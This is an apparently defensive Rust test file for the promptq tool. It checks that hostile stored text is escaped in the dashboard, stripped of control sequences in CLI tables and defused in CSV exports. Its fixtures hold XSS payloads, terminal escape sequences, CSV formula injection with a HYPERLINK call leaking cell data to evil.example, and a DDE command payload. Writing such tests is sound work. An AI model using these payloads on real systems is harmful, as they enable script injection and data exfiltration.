//! Stored text cannot attack its readers. Prompts come from teammates, answers and error
//! messages from models and providers: whatever they hold must render inert in the dashboard
//! (no markup runs), in the CLI's tables (no terminal control sequence reaches the terminal) and
//! in CSV exports (no cell is read as a spreadsheet formula, unless `--raw-csv` asks for that).

use std::process::Command;

use chrono::Utc;
use promptq::domain::{AttemptError, ErrorClass, Finish, NewResponse, Outcome};
use serde_json::json;

use crate::support::TestDb;
use crate::support::on_both;
use crate::support::server::{Options, Server, start_with};

/// Clears the screen, retitles the window and rings the bell, then tries markup and a formula.
const PROMPT: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}<script>alert(1)</script> \"><img src=x \
                      onerror=alert(1)> =HYPERLINK(\"http://evil.example/?leak\",\"click\")";
/// An answer that is a formula, with a carriage return that would overwrite the line, a C1 CSI
/// (one byte that some terminals take for ESC [) and markup.
const ANSWER: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") \
                      <script>alert(2)</script>\r\u{1b}[2J\u{9b}31m\"><img src=x onerror=alert(2)>";
/// A provider's error message.
const ERROR: &str = "\u{1b}[2J\u{1b}[31mprovider said <script>alert(3)</script>\r\u{7} \
                     \"><img src=x onerror=alert(3)>";
/// A model name that is a spreadsheet formula and markup.
const MODEL: &str = "@SUM(1+1)\u{1b}[2J\"><img src=x onerror=alert(4)>";

/// Every control character that must never reach a terminal from stored text.
fn has_terminal_controls(text: &str) -> bool {
    text.chars()
        .any(|c| c != '\n' && (c.is_control() || matches!(c, '\u{202A}'..='\u{202E}')))
}

/// A server whose store holds the hostile prompt, model, answer and error: one job answered,
/// one failed, written through the store as a worker would after its provider call.
async fn seeded(db: TestDb) -> (Server, String) {
    let server = start_with(
        db,
        Options {
            dashboard: true,
            open: true,
            ..Options::default()
        },
    )
    .await;
    server.model(MODEL, json!({})).await;
    server.prompt(PROMPT, 2).await;
    let batch = server.cron().await;
    let claimed = server
        .db
        .store
        .jobs_claim(
            2,
            promptq::store::Clock::Database,
            std::time::Duration::from_secs(60),
        )
        .await
        .expect("claim both jobs");
    assert_eq!(claimed.len(), 2);
    let answered = Outcome::Succeeded(Box::new(NewResponse {
        text: ANSWER.to_owned(),
        served_model: Some("+cmd|' /C calc'!A0".to_owned()),
        finish_reason: Some("-1+1".to_owned()),
        latency_ms: 5,
        ..NewResponse::default()
    }));
    let failed = Outcome::Failed(AttemptError {
        class: ErrorClass::Permanent,
        http_status: Some(400),
        message: ERROR.to_owned(),
    });
    let finishes: Vec<Finish> = claimed
        .iter()
        .zip([answered, failed])
        .map(|(claim, outcome)| Finish {
            job_id: claim.job.id,
            attempt: claim.attempt,
            finished_at: Utc::now(),
            outcome,
        })
        .collect();
    let results = server
        .db
        .store
        .jobs_finish(&finishes, promptq::store::Clock::Database)
        .await
        .expect("finish");
    assert!(results.iter().all(|r| r.applied), "{results:?}");
    (server, batch)
}

fn promptq(db_url: &str, args: &[&str]) -> String {
    let output = Command::new(crate::support::PROMPTQ)
        .args(args)
        .env_clear()
        .env("DATABASE_URL", db_url)
        .output()
        .expect("run promptq");
    assert!(
        output.status.success(),
        "promptq {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).expect("utf-8 output")
}

pub async fn hostile_text_is_inert_in_pages_tables_and_csv(db: TestDb) {
    let (server, batch) = seeded(db).await;
    let jobs = server.job_ids(&batch).await;

    // The dashboard: every page that shows the text escapes it.
    let mut pages = vec![
        "/".to_owned(),
        "/failed".to_owned(),
        format!("/batches/{batch}"),
    ];
    pages.extend(jobs.iter().map(|id| format!("/jobs/{id}")));
    let mut seen = String::new();
    for path in &pages {
        let page = server
            .client
            .get(server.url(path))
            .send()
            .await
            .expect("GET");
        assert_eq!(page.status(), 200, "{path}");
        let html = page.text().await.expect("body");
        for raw in ["<script", "<img", "\"><img"] {
            assert!(!html.contains(raw), "{path} carries {raw:?}: {html}");
        }
        seen.push_str(&html);
    }
    for escaped in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&lt;script&gt;alert(2)&lt;/script&gt;",
        "&lt;script&gt;alert(3)&lt;/script&gt;",
        "&quot;&gt;&lt;img src=x onerror=alert(4)&gt;",
    ] {
        assert!(seen.contains(escaped), "{escaped} is shown, escaped");
    }

    // The CLI's tables: status (prompts and errors), prompts and models (names).
    for args in [
        &["status"][..],
        &["status", "--status", "failed"],
        &["prompts", "list"],
        &["models", "list"],
    ] {
        let out = promptq(&server.db.url, args);
        assert!(
            !has_terminal_controls(&out),
            "promptq {args:?} printed controls: {out:?}"
        );
        assert!(
            out.contains("␛[2J"),
            "promptq {args:?} shows ESC visibly: {out}"
        );
    }

    // CSV: formulas are defused with a leading quote; --raw-csv writes them as stored.
    let dir = tempfile::tempdir().expect("temp dir");
    let guarded = dir.path().join("guarded.csv");
    let raw = dir.path().join("raw.csv");
    promptq(
        &server.db.url,
        &["export", "--output", guarded.to_str().expect("path")],
    );
    promptq(
        &server.db.url,
        &[
            "export",
            "--raw-csv",
            "--output",
            raw.to_str().expect("path"),
        ],
    );
    let cells = |path: &std::path::Path| -> Vec<(String, String)> {
        let mut reader = csv::Reader::from_path(path).expect("read the export");
        let header = reader.headers().expect("header").clone();
        let row = reader.records().next().expect("one row").expect("a record");
        header
            .iter()
            .map(str::to_owned)
            .zip(row.iter().map(str::to_owned))
            .collect()
    };
    let guarded = cells(&guarded);
    let raw = cells(&raw);
    let cell = |row: &[(String, String)], name: &str| {
        row.iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.clone())
            .expect(name)
    };
    for (column, stored) in [
        ("text", ANSWER),
        ("modelName", MODEL),
        ("servedModel", "+cmd|' /C calc'!A0"),
        ("finishReason", "-1+1"),
    ] {
        assert_eq!(cell(&guarded, column), format!("'{stored}"), "{column}");
        assert_eq!(cell(&raw, column), stored, "{column} with --raw-csv");
    }
    for (name, value) in &guarded {
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{name} = {value:?} would be a formula"
        );
    }
    // Numbers stay numbers.
    assert_eq!(cell(&guarded, "latencyMs"), "5");
}

on_both!(threads = 2; owned; hostile_text_is_inert_in_pages_tables_and_csv);
